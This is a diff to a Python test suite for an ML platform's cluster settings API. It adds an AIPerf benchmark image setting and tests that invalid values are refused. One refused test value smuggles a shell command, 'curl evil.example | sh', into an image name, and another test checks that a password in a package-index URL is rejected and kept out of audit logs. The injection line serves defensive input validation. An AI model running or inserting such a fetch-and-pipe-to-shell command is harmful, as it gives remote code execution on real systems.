@@ -218,6 +218,7 @@ OPERATOR_SETTINGS: dict[str, Any] = {
     "engine_images": {"0.5.23": "registry.example.com/sglang:0.5.23"},
     "router_image": "registry.example.com/smg:1.13.0",
     "model_cache": {"type": "claim", "claim_name": "models"},
+    "benchmark_aiperf": {"type": "image", "image": "registry.example.com/plinth/aiperf:0.13.0"},
     "labels": {"team": "ml"},
     "annotations": {"example.com/owner": "ml-platform"},
     "tenant_overrides": ["env"],
@@ -247,6 +248,10 @@ def test_operator_settings_round_trip_from_the_api_to_valid_manifests(api: Clien
     # Only admins see settings; everyone sees where GPUs are.
     assert api.carol.get(f"clusters/{cluster['id']}").json()["settings"] is None
     assert AuditEvent.objects.filter(action="cluster.update").count() == 1
+    # Where benchmarks get AIPerf: by default an image (no package index), null meaning the
+    # platform's; here the operator's mirror.
+    assert cluster["settings"]["benchmark_aiperf"] == {"type": "image", "image": None}
+    assert shown["benchmark_aiperf"] == OPERATOR_SETTINGS["benchmark_aiperf"]
 
     options = kube_options(Cluster.objects.get(pk=cluster["id"]))
     for name in ("llama-3.1-8b-h100", "deepseek-v3-tp16-2x-h200"):
@@ -275,12 +280,19 @@ def test_operator_settings_are_checked_when_saved_and_admins_only(
         "gpu_map": {"no-such-gpu": {"values": ["x"]}},
         "tolerations": [{"operator": "Exists", "value": "x"}],
         "model_cache": {"type": "host_path", "path": "../etc"},
+        "benchmark_aiperf": {"type": "image", "image": "aiperf; curl evil.example | sh"},
     }
     for key, value in refusals.items():
         refused = api.alice.patch(path, {"settings": {key: value}})
         assert refused.status_code == 422, (key, refused.content)
         assert fields_of(refused)[0].startswith(f"settings.{key}"), (key, fields_of(refused))
     assert api.alice.patch(path, {"settings": {"surprise": 1}}).status_code == 422
+    # A password in a package index's URL would be in every benchmark Job's command line.
+    with_password = {"type": "pip", "index_url": "https://me:hunter2@pypi.internal/simple"}
+    refused = api.alice.patch(path, {"settings": {"benchmark_aiperf": with_password}})
+    assert refused.status_code == 422
+    assert fields_of(refused) == ["settings.benchmark_aiperf.pip.index_url"]
+    assert "hunter2" not in str(AuditEvent.objects.values_list("after", flat=True))
     local = next(c for c in api.alice.get("clusters").json()["items"] if c["kind"] == "local")
     assert error_of(api.alice.patch(f"clusters/{local['id']}", {"settings": {}}))["code"] == (
         "built_in"
